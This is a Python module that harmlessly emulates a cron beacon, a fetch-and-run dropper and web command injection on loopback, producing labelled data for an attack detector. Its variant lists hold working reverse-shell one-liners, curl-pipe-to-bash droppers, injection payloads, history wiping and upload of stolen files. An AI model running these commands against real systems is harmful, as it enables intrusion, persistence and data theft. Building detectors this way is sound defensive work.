"""Harmless emulations of attacks, each with its interval in the labels: what a detector must tell from ordinary work.

The far end (`remote.py`) listens on loopback in the endpoint's own network; nothing is reached beyond it. What an implant
would be is a copy of sleep; what is taken is made up. Variants are drawn from the endpoint's random generator, so that no
one spelling stands for the attack.
"""

import pathlib
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, replace

FAR = str(pathlib.Path(__file__).with_name("remote.py"))


@dataclass
class Attack:
    role: str
    title: str
    techniques: list
    run: Callable


def far_end(endpoint, *arguments):
    """Starts the far end in the endpoint's network. Stop it with `kill`."""
    network = f"--net=/proc/{endpoint.init}/ns/net"
    process = subprocess.Popen(
        ["nsenter", network, sys.executable, FAR, *map(str, arguments)],
        stdin=subprocess.DEVNULL,
        stdout=endpoint.log,
        stderr=endpoint.log,
    )
    time.sleep(2)
    return process


def cron_beacon(endpoint):
    """A stolen key; a script in the account's home that cron starts each minute: asks for a task, does it, answers."""
    rng, port = endpoint.rng, endpoint.rng.randint(4000, 9000)
    web = far_end(endpoint, "web", port)
    user = rng.choice(["dev", "svc"])
    url = f"http://127.0.0.1:{port}"
    folder, name = rng.choice(
        [
            ("~/.cache/.fontconfig", "update"),
            ("~/.config/dbus", "session"),
            ("~/.local/share/.gvfs", "mount"),
            ("/var/tmp/.systemd", "journal"),
        ]
    )
    try:
        if rng.random() < 0.5:
            script = f"{folder}/{name}.py"
            body = f'import subprocess, urllib.request as u\\nt = u.urlopen("{url}/task").read().decode()\\no = subprocess.run(t, shell=True, capture_output=True).stdout\\nu.urlopen("{url}/done", data=o or b"-")\\n'
            start = f"/usr/bin/python3 {script}"
        else:
            script = f"{folder}/{name}"
            body = f'#!/bin/sh\\nt=$(curl -s {url}/task)\\nsh -c "$t" 2>&1 | curl -s -X POST --data-binary @- {url}/done\\n'
            start = rng.choice([f"/bin/sh {script}", script])
        endpoint.type(
            user,
            [
                rng.choice(["id; uname -a", "whoami; hostname; w", "cat /etc/os-release | head -2; id"]),
                f"mkdir -p {folder}",
                f"printf '{body}' > {script}; chmod +x {script}",
                rng.choice([f"touch -r /etc/hosts {script}", "history -c", "ls -la ~"]),
                f"(crontab -l 2>/dev/null; echo '* * * * * {start} >/dev/null 2>&1') | crontab -",
            ],
            pace=(1, 4),
        )
        endpoint.pause(130, 190)
        endpoint.type(user, ["crontab -r", f"rm -rf {folder}"], pace=(1, 2))
    finally:
        web.kill()
        web.wait()


def dropper(endpoint):
    """A command that fetches a script and runs it: through a pipe, base64, a file, or an interpreter's own client."""
    rng, port = endpoint.rng, endpoint.rng.randint(4000, 9000)
    web = far_end(endpoint, "web", port)
    url, hidden = (
        f"http://127.0.0.1:{port}",
        rng.choice(["/dev/shm/.fonts", "/tmp/.X11-cache", "/var/tmp/.cache-fc", "$HOME/.cache/.pip"]),
    )
    fetch = rng.choice(
        [
            f"curl -fsSL {url}/install | bash -s {hidden}",
            f"wget -qO- {url}/install | sh -s {hidden}",
            f"curl -s {url}/b64 | base64 -d | bash -s {hidden}",
            f"wget -q {url}/x -O /tmp/.u; chmod 755 /tmp/.u; /tmp/.u {hidden}; rm -f /tmp/.u",
            f'python3 -c \'import urllib.request as u, subprocess; subprocess.run(["bash", "-s", "{hidden}"], input=u.urlopen("{url}/s").read())\'',
            f'bash -c "$(curl -fsSL {url}/s)"',
            f"perl -e 'print `curl -s {url}/b64`' | base64 -d > /dev/shm/r.sh && bash /dev/shm/r.sh {hidden}; rm -f /dev/shm/r.sh",
        ]
    )
    try:
        if endpoint.role in ("web", "shop") and rng.random() < 0.4:
            inject(endpoint, fetch.replace("$HOME", "/var/tmp"))  # a web server's account has no home to write to
        else:
            endpoint.type(
                rng.choice(["dev", "svc", "admin"]),
                [
                    rng.choice(["cd /tmp", "cd /dev/shm", "id"]),
                    fetch,
                    rng.choice(["history -c", "rm -f ~/.bash_history", "unset HISTFILE"]),
                ],
                pace=(1, 4),
            )
        endpoint.pause(20, 60)
    finally:
        web.kill()
        web.wait()
        # What stays behind would start again in time that is labelled benign.
        for profile in pathlib.Path(f"/proc/{endpoint.init}/root/home").glob("*/.profile"):
            lines = profile.read_text(encoding="utf-8").splitlines(keepends=True)
            profile.write_text("".join(line for line in lines if "fontd" not in line), encoding="utf-8")


def inject(endpoint, command):
    quoted = urllib.parse.quote("127.0.0.1" + endpoint.rng.choice([";", "|", "\n"]) + command)
    endpoint.ask(f"/app/diag?host={quoted}")


def command_injection(endpoint):
    """Commands through the portal's form: looking around, a shell back to loopback, the application's data sent out."""
    rng, port = endpoint.rng, endpoint.rng.randint(4000, 9000)
    for command in rng.sample(
        [
            "id",
            "cat /etc/passwd",
            "ls -la /var/lib/portal",
            "uname -a; hostname",
            "cat /etc/nginx/sites-enabled/*",
            "ps aux",
            "find / -perm -4000 -type f 2>/dev/null",
        ],
        3,
    ):
        inject(endpoint, command)
        endpoint.pause(2, 9)
    lines = rng.sample(
        [
            "id",
            "pwd; ls -la",
            "cat /opt/portal.py | head -40",
            "ss -tlnp",
            "cat /etc/crontab",
            "sqlite3 /var/lib/portal/items.db .dump > /tmp/.d",
            "ls -la /home",
            "env",
            "sudo -n -l",
            "cat /etc/shadow",
        ],
        rng.randint(4, 7),
    )
    listener = far_end(endpoint, "shell", port, *lines)
    web = far_end(endpoint, "web", port + 1)
    try:
        inject(
            endpoint,
            rng.choice(
                [
                    f"nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' >/dev/null 2>&1 &",
                    f"rm -f /tmp/f; mkfifo /tmp/f; (sh -i < /tmp/f 2>&1 | nc 127.0.0.1 {port} > /tmp/f) >/dev/null 2>&1 &",
                    f'python3 -c \'import socket,os,subprocess; s=socket.create_connection(("127.0.0.1",{port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; subprocess.call(["/bin/sh","-i"])\' >/dev/null 2>&1 &',
                    f"socat TCP:127.0.0.1:{port} EXEC:/bin/sh >/dev/null 2>&1 &",
                ]
            ),
        )
        try:
            listener.wait(60)
        except subprocess.TimeoutExpired:
            pass
        inject(
            endpoint,
            f"tar -czf /tmp/.p.tgz /var/lib/portal 2>/dev/null; curl -s -T /tmp/.p.tgz http://127.0.0.1:{port + 1}/in; rm -f /tmp/.p.tgz /tmp/.d /tmp/f",
        )
        endpoint.pause(5, 10)
    finally:
        for process in (listener, web):
            process.kill()
            process.wait()


ATTACKS = {
    "cron_beacon": Attack(
        "dev",
        "A script started by cron asks for tasks and does them",
        ["T1053.003", "T1059.004", "T1059.006", "T1071.001", "T1082"],
        cron_beacon,
    ),
    "dropper": Attack(
        "files",
        "A script fetched and run, a stand-in implant in a hidden place, a line in the profile",
        ["T1059.004", "T1105", "T1140", "T1546.004", "T1564.001"],
        dropper,
    ),
    "command_injection": Attack(
        "web",
        "Commands through a web form, a shell to loopback, the application's data sent out",
        ["T1041", "T1059.004", "T1190", "T1560.001"],
        command_injection,
    ),
}
# The same on another role.
ATTACKS |= {
    "cron_beacon_service": replace(ATTACKS["cron_beacon"], role="files"),
    "dropper_web": replace(ATTACKS["dropper"], role="web"),
    "command_injection_shop": replace(ATTACKS["command_injection"], role="shop"),
}
